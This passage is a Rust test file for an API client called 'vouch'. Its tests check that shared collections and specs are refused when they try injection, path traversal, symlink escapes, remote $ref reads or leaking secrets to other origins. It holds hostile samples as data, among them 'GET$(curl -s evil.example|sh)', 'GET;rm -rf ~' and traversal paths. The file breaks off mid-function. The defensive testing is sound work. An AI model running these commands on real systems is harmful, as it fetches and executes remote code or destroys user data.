//! Shared material is untrusted (DESIGN.md, "Trust model"): what a teammate's collection,
//! a Postman file or a spec may not do to the machine that opens it.

use vouch::exchange::{self, Source};
use vouch::request::{Draft, Environment};
use vouch::store::Store;

use crate::util::load;

/// A saved request of `draft` (no assertions, no extractions).
fn saved(name: impl Into<String>, seq: i64, draft: Draft) -> vouch::store::SavedRequest {
    vouch::store::SavedRequest {
        id: 0,
        folder_id: None,
        name: name.into(),
        seq,
        operation_id: None,
        draft,
        assertions: serde_json::json!([]),
        extractions: serde_json::json!([]),
        scripts: serde_json::json!([]),
    }
}

/// A method is an HTTP token: an import naming `GET$(…)` is refused, a draft with one is not
/// sent, and every cURL argument is single-quoted.
#[test]
fn a_method_cannot_smuggle_a_command_into_a_curl_line() {
    let postman = br#"{"info": {"name": "evil", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "item": [{"name": "x", "request": {"method": "GET$(curl -s evil.example|sh)", "url": "http://127.0.0.1/x"}}]}"#;
    let bundle = exchange::import_bytes(postman, "evil.json", Source::Postman).expect("parses");
    let dir = tempfile::tempdir().expect("tmp");
    let mut store = Store::open(dir.path()).expect("store");
    let e = exchange::into_store(&mut store, &bundle, false).expect_err("refused");
    assert!(e.to_string().contains("is not an HTTP method"), "{e}");
    assert!(
        store.collections().expect("list").is_empty(),
        "nothing written"
    );

    let spec = load(&crate::util::spec_path("oai-examples/v3.0/petstore.yaml")).expect("spec");
    let draft = Draft {
        method: "GET;rm -rf ~".into(),
        path: "/pets".into(),
        base_url: Some("http://127.0.0.1:9".into()),
        ..Draft::default()
    };
    let e =
        vouch::request::prepare(&spec, None, &draft, &Environment::default()).expect_err("refused");
    assert!(e.to_string().contains("is not an HTTP method"), "{e}");

    let line = exchange::curl_line(
        "GET",
        "http://x/a'b",
        &[("X-A".into(), "$(id)".into())],
        Some("`id`"),
    );
    assert_eq!(
        line,
        "curl -X 'GET' 'http://x/a'\\''b' \\\n  -H 'X-A: $(id)' \\\n  --data-raw '`id`'"
    );
}

/// A small spec cannot make form or value generation explode: shared `$ref`s fanning out
/// ten ways over twenty levels (10^20 paths) and sizes of a billion are bounded.
#[test]
fn generation_is_bounded_on_hostile_schemas() {
    let mut schemas = serde_json::Map::new();
    for level in 0..20 {
        let props: serde_json::Map<String, serde_json::Value> = (0..10)
            .map(|i| {
                (
                    format!("p{i}"),
                    serde_json::json!({"$ref": format!("#/components/schemas/L{}", level + 1)}),
                )
            })
            .collect();
        let required: Vec<String> = (0..10).map(|i| format!("p{i}")).collect();
        schemas.insert(
            format!("L{level}"),
            serde_json::json!({"type": "object", "properties": props, "required": required}),
        );
    }
    schemas.insert(
        "L20".into(),
        serde_json::json!({"type": "object", "required": ["many", "long"], "properties": {
            "many": {"type": "array", "minItems": 1_000_000_000u64, "items": {"type": "integer"}},
            "long": {"type": "string", "minLength": 1_000_000_000u64}}}),
    );
    let doc = serde_json::json!({"openapi": "3.1.0", "info": {"title": "fan", "version": "1"},
        "paths": {"/x": {"post": {"operationId": "x",
            "requestBody": {"content": {"application/json": {"schema": {"$ref": "#/components/schemas/L0"}}}},
            "responses": {"200": {"description": "ok"}}}}},
        "components": {"schemas": schemas}});
    let spec = vouch::spec::Spec::from_bytes(
        &serde_json::to_vec(&doc).expect("json"),
        None,
        &Default::default(),
    )
    .expect("spec");
    let started = std::time::Instant::now();
    let form = vouch::workbench::operation_form(&spec, spec.operation("x").expect("op"));
    let sizes = (
        serde_json::to_string(&form.body).expect("json").len(),
        serde_json::to_string(&form.draft).expect("json").len(),
    );
    assert!(sizes.0 < 4 << 20 && sizes.1 < 4 << 20, "{sizes:?}");
    let steps = vouch::suite::smoke(&spec);
    assert_eq!(steps.len(), 1);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );
    // A leaf alone: its sizes are capped, not a billion.
    let leaf = vouch::suite::sample(&spec, &vouch::spec::Loc::root("/components/schemas/L20"));
    assert_eq!(leaf["many"].as_array().map(Vec::len), Some(64));
    assert_eq!(leaf["long"].as_str().map(str::len), Some(4096));
}

/// A collection's file parts read files inside its folder only: `../../outside.txt`, an
/// absolute path, a symlink leading out are dropped (with a warning) before anything runs;
/// a device such as `/dev/zero` is refused at send time.
#[test]
fn file_parts_stay_inside_the_collection() {
    let top = tempfile::tempdir().expect("tmp");
    let outside = top.path().join("outside.txt");
    std::fs::write(&outside, "private").expect("write");
    let dir = top.path().join("a/b/shared");
    std::fs::create_dir_all(&dir).expect("dir");
    std::fs::write(dir.join("inside.txt"), "shared data").expect("write");
    std::os::unix::fs::symlink(&outside, dir.join("link.txt")).expect("symlink");
    std::fs::write(dir.join("collection.yaml"), "version: 2\nname: hostile\n").expect("write");
    let part = |name: &str, path: &str| {
        format!("  - name: {name}\n    value:\n      file:\n        path: '{path}'\n")
    };
    let request = format!(
        "name: upload\nseq: 0\nmethod: POST\npath: /upload\nbody:\n  multipart:\n{}{}{}{}",
        part("up", "../../../outside.txt"),
        part("abs", &outside.display().to_string()),
        part("link", "link.txt"),
        part("ok", "inside.txt"),
    );
    std::fs::write(dir.join("upload.yaml"), request).expect("write");
    let bundle = exchange::read_folder(&dir).expect("reads");
    let Some(vouch::request::Body::Multipart(parts)) = &bundle.requests[0].draft.body else {
        panic!("multipart: {:?}", bundle.requests[0].draft.body);
    };
    let files: Vec<String> = parts
        .iter()
        .filter_map(|p| match &p.value {
            vouch::request::PartValue::File { path, .. } => Some(path.display().to_string()),
            _ => None,
        })
        .collect();
    assert_eq!(files.len(), 1, "{files:?}");
    assert!(files[0].ends_with("inside.txt"), "{files:?}");
    assert_eq!(bundle.warnings.len(), 3, "{:?}", bundle.warnings);
    assert!(bundle
        .warnings
        .iter()
        .all(|w| w.contains("is not a file inside the collection")));

    let spec = load(&crate::util::spec_path("oai-examples/v3.0/petstore.yaml")).expect("spec");
    let draft = Draft {
        method: "POST".into(),
        path: "/pets".into(),
        base_url: Some("http://127.0.0.1:9".into()),
        body: Some(vouch::request::Body::Multipart(vec![
            vouch::request::Part {
                name: "f".into(),
                value: vouch::request::PartValue::File {
                    path: "/dev/zero".into(),
                    filename: None,
                    content_type: None,
                },
            },
        ])),
        ..Draft::default()
    };
    let e =
        vouch::request::prepare(&spec, None, &draft, &Environment::default()).expect_err("refused");
    assert!(e.to_string().contains("not a regular file"), "{e}");
}

/// The store is private (folder 0700, database and WAL 0600); a secret cannot be un-hidden
/// without typing a new value; an export is refused when a value around a `{{variable}}`
/// looks like a token or an auth field holds a literal.
#[test]
fn secrets_stay_private_and_out_of_exports() {
    use std::os::unix::fs::PermissionsExt;
    let top = tempfile::tempdir().expect("tmp");
    let data = top.path().join("data");
    let mut store = Store::open(&data).expect("store");
    let c = store.create_collection("c", "").expect("collection");
    let mode =
        |p: &std::path::Path| std::fs::metadata(p).expect("meta").permissions().mode() & 0o777;
    assert_eq!(mode(&data), 0o700);
    assert_eq!(mode(&data.join("vouch.db")), 0o600);
    assert_eq!(mode(&data.join("vouch.db-wal")), 0o600);

    let env = Environment::from_bytes(
        b"variables:\n  token: {value: t0ps3cret-value, secret: true}\n",
        "e",
    )
    .expect("env");
    store.save_environment(None, &env).expect("save");
    let wb = vouch::workbench::Workbench::new(Some(data.clone()));
    let mut view = wb.environment_view("e").expect("view");
    view.variables[0].secret = false;
    let e = wb.save_environment(&view).expect_err("un-hiding refused");
    assert!(e.to_string().contains("cannot be un-hidden"), "{e}");
    assert!(store.environment(None, "e").expect("env").variables["token"].secret);

    let mut request = |name: &str, draft: Draft| {
        store
            .save_request(c.id, &saved(name, 0, draft))
            .expect("save")
    };
    request(
        "around a variable",
        Draft {
            method: "GET".into(),
            path: "{{baseUrl}}/x?api_key=sk_live_0123456789abcdefXYZ".into(),
            ..Draft::default()
        },
    );
    let out = top.path().join("out");
    let e = exchange::export(&store, "c", &exchange::ExportTo::Folder(out.clone()), false)
        .expect_err("refused");
    assert!(e.to_string().contains("a Stripe key"), "{e}");
    assert!(!out.exists(), "nothing written");
    let c2 = store.create_collection("c2", "").expect("collection");
    store
        .save_request(
            c2.id,
            &saved(
                "basic",
                0,
                Draft {
                    method: "GET".into(),
                    path: "/me".into(),
                    auth: Some(vouch::request::Auth::Basic {
                        username: "bob".into(),
                        password: "builder".into(),
                    }),
                    ..Draft::default()
                },
            ),
        )
        .expect("save");
    let e = exchange::export(
        &store,
        "c2",
        &exchange::ExportTo::Folder(out.clone()),
        false,
    )
    .expect_err("refused");
    assert!(
        e.to_string()
            .contains("request `basic`: a literal auth value"),
        "{e}"
    );
}

/// An export touches only what it owns: files of others beside it stay byte for byte, a
/// folder of another collection is refused, a file changed on disk since the last export is
/// not overwritten, a symlink is never followed, and a request that went away takes only
/// its own file with it.
#[test]
fn an_export_touches_only_its_own_files() {
    let top = tempfile::tempdir().expect("tmp");
    let data = top.path().join("data");
    let mut store = Store::open(&data).expect("store");
    let c = store.create_collection("mine", "").expect("collection");
    let save = |store: &mut Store, name: &str| {
        store
            .save_request(
                c.id,
                &saved(
                    name,
                    0,
                    Draft {
                        method: "GET".into(),
                        path: format!("/{name}"),
                        ..Draft::default()
                    },
                ),
            )
            .expect("save")
    };
    save(&mut store, "a");
    let gone = save(&mut store, "b");
    let out = top.path().join("repo");
    std::fs::create_dir_all(out.join("k8s")).expect("dir");
    let deploy = "apiVersion: apps/v1\nkind: Deployment\n";
    std::fs::write(out.join("k8s/deploy.yaml"), deploy).expect("write");
    std::fs::write(
        out.join("collection.yaml"),
        "version: 2\nname: mine\ndescription: written by hand\n",
    )
    .expect("write");
    let to = exchange::ExportTo::Folder(out.clone());
    // collection.yaml is not ours yet (no manifest) and differs: refused without force.
    assert!(exchange::export(&store, "mine", &to, false).is_err());
    exchange::export(&store, "mine", &to, true).expect("forced");
    assert_eq!(
        std::fs::read_to_string(out.join("k8s/deploy.yaml")).expect("read"),
        deploy
    );
    assert!(out.join("a.yaml").is_file() && out.join("b.yaml").is_file());

    // A request deleted in the store takes its file along; others' files stay.
    store.delete_request(gone).expect("delete");
    exchange::export(&store, "mine", &to, false).expect("again");
    assert!(!out.join("b.yaml").exists());
    assert_eq!(
        std::fs::read_to_string(out.join("k8s/deploy.yaml")).expect("read"),
        deploy
    );

    // Edited on disk since: not overwritten.
    std::fs::write(
        out.join("a.yaml"),
        "name: a\nseq: 0\nmethod: GET\npath: /edited\n",
    )
    .expect("write");
    save(&mut store, "c");
    let e = exchange::export(&store, "mine", &to, false).expect_err("refused");
    assert!(
        e.to_string().contains("changed since the last export"),
        "{e}"
    );
    assert!(!out.join("c.yaml").exists(), "nothing written");

    // A manifest is shared material: an entry leading out of the folder is ignored, even
    // with the right hash, and nothing outside is removed.
    let outside = top.path().join("victim.txt");
    std::fs::write(&outside, "keep me").expect("write");
    let hash: String = {
        use sha2::Digest;
        sha2::Sha256::digest(b"keep me")
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect()
    };
    std::fs::write(
        out.join("a.yaml"),
        "name: a\nseq: 0\nmethod: GET\npath: /a\n",
    )
    .expect("restore");
    let manifest = std::fs::read_to_string(out.join(".vouch-manifest")).expect("manifest");
    std::fs::write(
        out.join(".vouch-manifest"),
        format!("{manifest}{hash}  ../victim.txt\n{hash}  /abs/victim.txt\n"),
    )
    .expect("write");
    exchange::export(&store, "mine", &to, true).expect("export");
    assert_eq!(std::fs::read_to_string(&outside).expect("read"), "keep me");
    // Another collection's folder, and a symlink, are refused.
    let other = top.path().join("other");
    std::fs::create_dir_all(&other).expect("dir");
    std::fs::write(other.join("collection.yaml"), "version: 2\nname: theirs\n").expect("write");
    let e = exchange::export(&store, "mine", &exchange::ExportTo::Folder(other), true)
        .expect_err("refused");
    assert!(
        e.to_string().contains("another collection, `theirs`"),
        "{e}"
    );
    let fresh = top.path().join("fresh");
    std::fs::create_dir_all(&fresh).expect("dir");
    let target = top.path().join("elsewhere.txt");
    std::fs::write(&target, "keep").expect("write");
    std::os::unix::fs::symlink(&target, fresh.join("a.yaml")).expect("symlink");
    std::fs::write(fresh.join("collection.yaml"), "version: 2\nname: mine\n").expect("write");
    let e = exchange::export(&store, "mine", &exchange::ExportTo::Folder(fresh), true)
        .expect_err("refused");
    assert!(e.to_string().contains("is a symlink: not followed"), "{e}");
    assert_eq!(std::fs::read_to_string(&target).expect("read"), "keep");
}

/// A loopback server answering `body` at every path and counting its hits.
fn counting_server(
    body: String,
) -> (
    String,
    std::sync::Arc<std::sync::atomic::AtomicUsize>,
    tokio::runtime::Runtime,
) {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .expect("rt");
    let hits = std::sync::Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    let app = axum::Router::new().fallback(move || {
        counter.fetch_add(1, Ordering::SeqCst);
        let body = body.clone();
        async move { body }
    });
    let listener = rt
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .expect("bind");
    let base = format!("http://{}", listener.local_addr().expect("addr"));
    rt.spawn(async move { axum::serve(listener, app).await });
    (base, hits, rt)
}

/// A spec reaches only its own origin (over http) or its own folder (from a file): a `$ref`
/// to `file:///…`, to another local server, or out of the folder is a problem, not a read —
/// unless the user allows that origin.
#[test]
fn a_spec_cannot_reach_other_files_or_hosts() {
    use std::sync::atomic::Ordering;
    let (other, other_hits, _rt1) = counting_server("X: {type: string}\n".into());
    let spec = format!(
        "openapi: 3.0.3\ninfo: {{title: t, version: '1'}}\npaths:\n  /a:\n    get:\n      responses:\n        '200':\n          description: ok\n          content:\n            application/json:\n              schema:\n                anyOf:\n                  - $ref: 'file:///etc/hostname#/x'\n                  - $ref: '{other}/other.yaml#/X'\n                  - $ref: 'same.yaml#/X'\n"
    );
    let (base, _hits, _rt2) = counting_server(spec);
    let url = format!("{base}/spec.yaml");
    let loaded = crate::util::load(&url).expect("loads");
    let problems: Vec<String> = loaded
        .problems()
        .iter()
        .map(|p| p.message.clone())
        .collect();
    assert!(problems.iter().any(|p| p.contains("file:///etc/hostname") && p.contains("not followed: a local file")), "{problems:?}");
    assert!(
        problems
            .iter()
            .any(|p| p.contains("other.yaml") && p.contains("not followed: another origin")),
        "{problems:?}"
    );
    assert!(
        !problems
            .iter()
            .any(|p| p.contains("same.yaml") && p.contains("not followed")),
        "same origin is followed: {problems:?}"
    );
    assert_eq!(
        other_hits.load(Ordering::SeqCst),
        0,
        "the other server was never called"
    );
    // Allowed by the user: followed.
    let allowed = vouch::spec::LoadOptions {
        allow_origins: vec![other.clone()],
        ..Default::default()
    };
    crate::util::load_with(&url, &allowed).expect("loads");
    assert!(other_hits.load(Ordering::SeqCst) > 0);

    // From a file: inside its folder only (symlinks resolved).
    let top = tempfile::tempdir().expect("tmp");
    let dir = top.path().join("spec");
    std::fs::create_dir_all(&dir).expect("dir");
    std::fs::write(top.path().join("outside.yaml"), "X: {type: string}\n").expect("write");
    std::fs::write(dir.join("inner.yaml"), "X: {type: string}\n").expect("write");
    std::os::unix::fs::symlink(top.path().join("outside.yaml"), dir.join("link.yaml"))
        .expect("symlink");
    let root = dir.join("openapi.yaml");
    std::fs::write(
        &root,
        "openapi: 3.0.3\ninfo: {title: t, version: '1'}\npaths: {}\ncomponents:\n  schemas:\n    A: {$ref: '../outside.yaml#/X'}\n    B: {$ref: 'link.yaml#/X'}\n    C: {$ref: 'inner.yaml#/X'}\n",
    )
    .expect("write");
    let loaded = crate::util::load(root.to_str().expect("utf-8")).expect("loads");
    let problems: Vec<String> = loaded
        .problems()
        .iter()
        .map(|p| p.message.clone())
        .collect();
    assert_eq!(
        problems
            .iter()
            .filter(|p| p.contains("a file outside the spec's folder"))
            .count(),
        2,
        "{problems:?}"
    );
    assert!(
        !problems.iter().any(|p| p.contains("inner.yaml")),
        "{problems:?}"
    );
}

/// A collection folder whose `openapi.json` is a symlink to a file elsewhere is refused: the
/// private file is neither read into the store nor written out again on export.
#[test]
fn a_symlinked_spec_does_not_bring_a_private_file_along() {
    let top = tempfile::tempdir().expect("tmp");
    let private = top.path().join("private.json");
    std::fs::write(
        &private,
        "{\"openapi\": \"3.1.0\", \"secret\": \"do not copy\"}",
    )
    .expect("write");
    let dir = top.path().join("shared");
    std::fs::create_dir_all(&dir).expect("dir");
    std::fs::write(
        dir.join("collection.yaml"),
        "version: 2\nname: s\nspec: openapi.json\n",
    )
    .expect("write");
    std::os::unix::fs::symlink(&private, dir.join("openapi.json")).expect("symlink");
    let e = exchange::read_folder(&dir).expect_err("refused");
    assert!(
        e.to_string().contains("is not a file inside the folder"),
        "{e}"
    );
}

/// A secret goes only to the origin it was bound to (its environment's baseUrl when entered
/// on this machine): a shared request pointing elsewhere fails alone, sends nothing; the
/// user can allow the origin for the run, or type a base URL in the window.
#[test]
fn secrets_are_bound_to_their_origins() {
    use std::sync::atomic::Ordering;
    let service = crate::util::Service::shop();
    let (elsewhere, hits, _rt) = counting_server("{}".into());
    let top = tempfile::tempdir().expect("tmp");
    let data = top.path().join("data");
    let env_file = top.path().join("local.yaml");
    std::fs::write(
        &env_file,
        format!("name: local\nvariables:\n  baseUrl: {}\n  token: {{value: t-0123456789, secret: true}}\n", service.base),
    )
    .expect("write");
    let env = Environment::from_file(&env_file).expect("env");
    assert_eq!(env.variables["token"].origins, vec![service.base.clone()]);
    let mut store = Store::open(&data).expect("store");
    let c = store.create_collection("bound", "").expect("collection");
    store
        .set_spec_source(c.id, &service.url("/openapi.json"))
        .expect("spec");
    store.save_environment(Some(c.id), &env).expect("env");
    for (seq, base) in ["{{baseUrl}}".to_string(), elsewhere.clone()]
        .iter()
        .enumerate()
    {
        store
            .save_request(
                c.id,
                &saved(
                    format!("r{seq}"),
                    seq as i64,
                    Draft {
                        method: "GET".into(),
                        path: "/echo-header".into(),
                        headers: vec![("X-Request-Id".into(), "{{token}}".into())],
                        base_url: Some(base.clone()),
                        ..Draft::default()
                    },
                ),
            )
            .expect("save");
    }
    let d = data.to_str().expect("utf-8");
    let out = crate::util::vouch()
        .args(["run", "bound", "--data-dir", d])
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("2 steps: 1 passed, 0 failed, 1 error"),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("secret `token` may not be sent to {elsewhere}")),
        "{stdout}"
    );
    assert!(!stdout.contains("t-0123456789"));
    assert_eq!(hits.load(Ordering::SeqCst), 0, "nothing went elsewhere");
    let out = crate::util::vouch()
        .args([
            "run",
            "bound",
            "--data-dir",
            d,
            "--allow-origin",
            &elsewhere,
        ])
        .output()
        .expect("run");
    assert!(
        hits.load(Ordering::SeqCst) > 0,
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );

    // The window: a secret typed there is bound to the environment's baseUrl.
    let wb = vouch::workbench::Workbench::new(Some(data.clone()));
    let rt = crate::util::runtime();
    rt.block_on(wb.open(&service.url("/openapi.json")))
        .expect("open");
    let mut view = wb.environment_view("bound/local").expect("view");
    view.variables.push(vouch::workbench::VarView {
        name: "typed".into(),
        value: Some("typed-secret-42".into()),
        secret: true,
    });
    wb.save_environment(&view).expect("save");
    let c = store.collection("bound").expect("c");
    assert_eq!(
        store
            .environment(Some(c.id), "local")
            .expect("env")
            .variables["typed"]
            .origins,
        vec![service.base.clone()]
    );
    let draft = |base: &str| Draft {
        method: "GET".into(),
        path: "/echo-header".into(),
        headers: vec![("X-Request-Id".into(), "{{typed}}".into())],
        base_url: Some(base.into()),
        ..Draft::default()
    };
    // A URL from shared material (a template) cannot move it; one typed in the window can.
    let mut shared = draft("{{elsewhere}}");
    shared.base_url = Some("{{baseUrl}}".into());
    let sent = rt
        .block_on(wb.send(None, shared, Some("bound/local".into())))
        .expect("send");
    assert_eq!(sent.status, Some(200), "{sent:?}");
    // Shared material pointing elsewhere: refused, with what the window asks about.
    let mut view = wb.environment_view("bound/local").expect("view");
    view.variables.push(vouch::workbench::VarView {
        name: "other".into(),
        value: Some(elsewhere.clone()),
        secret: false,
    });
    wb.save_environment(&view).expect("save");
    let refused = rt
        .block_on(wb.send(None, draft("{{other}}"), Some("bound/local".into())))
        .expect("send");
    let r = refused.refused.as_ref().expect("refused");
    assert_eq!(
        (r.secret.as_str(), r.origin.as_str()),
        ("typed", elsewhere.as_str())
    );
    assert!(!serde_json::to_string(&refused)
        .expect("json")
        .contains("typed-secret-42"));
    // The user's answer is remembered with the environment.
    wb.allow_origin("bound/local", "typed", &elsewhere)
        .expect("allow");
    let before = hits.load(Ordering::SeqCst);
    let again = rt
        .block_on(wb.send(None, draft("{{other}}"), Some("bound/local".into())))
        .expect("send");
    assert!(again.error.is_none(), "{again:?}");
    assert!(hits.load(Ordering::SeqCst) > before);
    let before = hits.load(Ordering::SeqCst);
    let typed = rt
        .block_on(wb.send(None, draft(&elsewhere), Some("bound/local".into())))
        .expect("send");
    assert!(typed.error.is_none(), "{typed:?}");
    assert!(hits.load(Ordering::SeqCst) > before);
}

/// Secrets are sealed at rest: after an import, a run and the history, neither `vouch.db`
/// nor its WAL holds a byte of a planted secret; the key file is 0600; `vouch info` says
/// what seals the store.
#[test]
fn secrets_are_sealed_at_rest() {
    use std::os::unix::fs::PermissionsExt;
    const PLANTED: &str = "planted-9f8e7d6c5b4a";
    let service = crate::util::Service::shop();
    let top = tempfile::tempdir().expect("tmp");
    let data = top.path().join("data");
    let d = data.to_str().expect("utf-8");
    let env = top.path().join("env.postman_environment.json");
    std::fs::write(
        &env,
        format!(
            r#"{{"name": "sealed", "_postman_variable_scope": "environment", "values": [
            {{"key": "baseUrl", "value": "{}", "enabled": true}},
            {{"key": "token", "value": "{PLANTED}", "type": "secret", "enabled": true}}]}}"#,
            service.base
        ),
    )
    .expect("write");
    let vouch = |args: &[&str]| {
        let out = crate::util::vouch().args(args).output().expect("vouch");
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let (code, _, err) = vouch(&["import", env.to_str().expect("utf-8"), "--data-dir", d]);
    assert_eq!(code, Some(0), "{err}");
    assert!(
        err.contains("the key sealing this store's secrets was written to"),
        "{err}"
    );
    let spec = service.url("/openapi.json");
    let (code, _, err) = vouch(&[
        "check",
        &spec,
        "GET",
        "/echo-header",
        "-H",
        "X-Request-Id: {{token}}",
        "--env",
        "sealed",
        "--data-dir",
        d,
    ]);
    assert!(code.is_some_and(|c| c < 2), "{err}");
    let (code, _, err) = vouch(&[
        "run",
        "--spec",
        &spec,
        "--env",
        "sealed",
        "--data-dir",
        d,
        "--timeout",
        "1",
    ]);
    assert!(code.is_some_and(|c| c < 2), "{err}");
    let mut bytes = std::fs::read(data.join("vouch.db")).expect("db");
    bytes.extend(std::fs::read(data.join("vouch.db-wal")).unwrap_or_default());
    assert!(
        !bytes
            .windows(PLANTED.len())
            .any(|w| w == PLANTED.as_bytes()),
        "the planted secret is in vouch.db or its WAL"
    );
    let mode = std::fs::metadata(data.join("vouch.key"))
        .expect("key")
        .permissions()
        .mode()
        & 0o777;
    assert_eq!(mode, 0o600);
    // And it opens again: the secret is there for the next call.
    let store = Store::open(&data).expect("store");
    assert_eq!(
        store.environment(None, "sealed").expect("env").variables["token"].value,
        PLANTED
    );
    let (_, out, _) = vouch(&["info", "--data-dir", d]);
    assert!(out.contains("secrets sealed with: the key file"), "{out}");
}

/// A request to `base` prepared with an OAuth2 password grant whose token URL is
/// `token_url` (the spec's security scheme, the environment's username and password).
fn oauth_prepared(base: &str, token_url: &str) -> vouch::request::Prepared {
    let doc = serde_json::json!({"openapi": "3.1.0", "info": {"title": "t", "version": "1"},
        "components": {"securitySchemes": {"pw": {"type": "oauth2", "flows": {"password": {"tokenUrl": token_url, "scopes": {}}}}}},
        "security": [{"pw": []}],
        "paths": {"/me": {"get": {"operationId": "me", "responses": {"200": {"description": "ok"}}}}}});
    let spec = vouch::spec::Spec::from_bytes(
        &serde_json::to_vec(&doc).expect("json"),
        None,
        &Default::default(),
    )
    .expect("spec");
    let env =
        Environment::from_bytes(b"auth:\n  pw: {username: u, password: p}\n", "e").expect("env");
    let detail = spec.resolve(spec.operation("me").expect("op"));
    let draft = Draft {
        method: "GET".into(),
        path: "/me".into(),
        base_url: Some(base.to_string()),
        ..Draft::default()
    };
    vouch::request::prepare(&spec, Some(&detail), &draft, &env).expect("prepare")
}

/// A token endpoint named by a spec cannot make the session read without bound: its answer
/// is capped (1 MB) like any other response.
#[test]
fn a_token_endpoint_answer_is_capped() {
    let (base, _hits, _rt) = counting_server("x".repeat(2 << 20));
    let prepared = oauth_prepared(&base, &format!("{base}/token"));
    let session = vouch::request::Session::new();
    let e = crate::util::runtime()
        .block_on(session.send(&prepared, &Default::default(), None))
        .expect_err("capped");
    assert!(
        e.to_string().contains("the answer is over 1048576 bytes"),
        "{e}"
    );
}

/// A token endpoint that accepts the connection and never answers cannot hold the call: the
/// token request gets the call's own time limit (`--timeout`, 30 s by default) and fails
/// naming the token URL and the limit; the call itself is never sent.
#[test]
fn a_silent_token_endpoint_fails_within_the_time_limit() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let silent = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let token_url = format!("http://{}/token", silent.local_addr().expect("addr"));
    silent.set_nonblocking(true).expect("nonblocking");
    let accepted = std::sync::Arc::new(AtomicUsize::new(0));
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let (counter, stop) = (accepted.clone(), done.clone());
    // Accepts and holds connections, silent, until the test is done (10 s at most).
    let holder = std::thread::spawn(move || {
        let mut held = Vec::new();
        let until = std::time::Instant::now() + std::time::Duration::from_secs(10);
        while !stop.load(Ordering::SeqCst) && std::time::Instant::now() < until {
            if let Ok((stream, _)) = silent.accept() {
                counter.fetch_add(1, Ordering::SeqCst);
                held.push(stream);
            }
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
    });
    let (base, api_hits, _rt) = counting_server("{}".into());
    let prepared = oauth_prepared(&base, &token_url);
    let options = vouch::request::SendOptions {
        timeout: std::time::Duration::from_secs(1),
        ..Default::default()
    };
    let session = vouch::request::Session::new();
    let started = std::time::Instant::now();
    let e = crate::util::runtime()
        .block_on(session.send(&prepared, &options, None))
        .expect_err("timed out");
    let took = started.elapsed();
    assert!(
        took >= std::time::Duration::from_millis(900) && took < std::time::Duration::from_secs(5),
        "{took:?}: {e}"
    );
    let text = e.to_string();
    assert!(
        text.contains(&format!("OAuth2 token from {token_url}")),
        "{text}"
    );
    assert!(
        text.contains("no complete answer within 1 s (the call's time limit)"),
        "{text}"
    );
    assert_eq!(e.kind(), "token");
    assert!(
        accepted.load(Ordering::SeqCst) >= 1,
        "the token endpoint was reached"
    );
    assert_eq!(
        api_hits.load(Ordering::SeqCst),
        0,
        "no call without a token"
    );
    done.store(true, Ordering::SeqCst);
    holder.join().expect("holder");
}

/// A loopback server answering `{}` (JSON) at every path and keeping every request it saw
/// (method, target, headers and body, as bytes).
fn recording_server() -> (
    String,
    std::sync::Arc<std::sync::Mutex<Vec<Vec<u8>>>>,
    tokio::runtime::Runtime,
) {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .expect("rt");
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let log = seen.clone();
    let app = axum::Router::new().fallback(move |req: axum::extract::Request| {
        let log = log.clone();
        async move {
            let mut raw = format!("{} {}\n", req.method(), req.uri()).into_bytes();
            for (k, v) in req.headers() {
                raw.extend(format!("{k}: ").as_bytes());
                raw.extend(v.as_bytes());
                raw.push(b'\n');
            }
            let body = axum::body::to_bytes(req.into_body(), 64 << 20)
                .await
                .unwrap_or_default();
            raw.extend(&body);
            log.lock().expect("log").push(raw);
            axum::Json(serde_json::json!({}))
        }
    });
    let listener = rt
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .expect("bind");
    let base = format!("http://{}", listener.local_addr().expect("addr"));
    rt.spawn(async move { axum::serve(listener, app).await });
    (base, seen, rt)
}

/// The hostile folder: a spec with `$ref`s to a file outside and to the attacker, a request
/// that sends `{{token}}` to the legit service, one that uploads a file part leading out of
/// the folder (`../../outside.txt`) and a text part, one that sends `{{token}}` to the
/// attacker's port.
fn hostile_folder(dir: &std::path::Path, outside: &std::path::Path, attacker: &str) {
    std::fs::create_dir_all(dir).expect("dir");
    std::fs::write(
        dir.join("collection.yaml"),
        "version: 2\nname: hostile\nspec: openapi.json\n",
    )
    .expect("write");
    let ok = serde_json::json!({"200": {"description": "ok",
        "content": {"application/json": {"schema": {"type": "object"}}}}});
    let spec = serde_json::json!({"openapi": "3.0.3", "info": {"title": "hostile", "version": "1"},
        "paths": {
            "/ok": {"get": {"operationId": "ok", "responses": ok}},
            "/upload": {"post": {"operationId": "upload", "responses": ok, "requestBody": {
                "content": {"multipart/form-data": {"schema": {"type": "object"}}}}}},
            "/leak": {"get": {"operationId": "leak", "responses": ok}}},
        "components": {"schemas": {
            "Local": {"$ref": format!("file://{}#/X", outside.display())},
            "Remote": {"$ref": format!("{attacker}/schema.yaml#/X")}}}});
    std::fs::write(
        dir.join("openapi.json"),
        serde_json::to_vec_pretty(&spec).expect("json"),
    )
    .expect("write");
    let request = |name: &str, seq: u8, rest: &str| {
        std::fs::write(
            dir.join(format!("{name}.yaml")),
            format!("name: {name}\nseq: {seq}\n{rest}"),
        )
        .expect("write");
    };
    request(
        "ok",
        0,
        "method: GET\npath: /ok\nheaders:\n- [X-Token, '{{token}}']\nbase_url: '{{baseUrl}}'\n",
    );
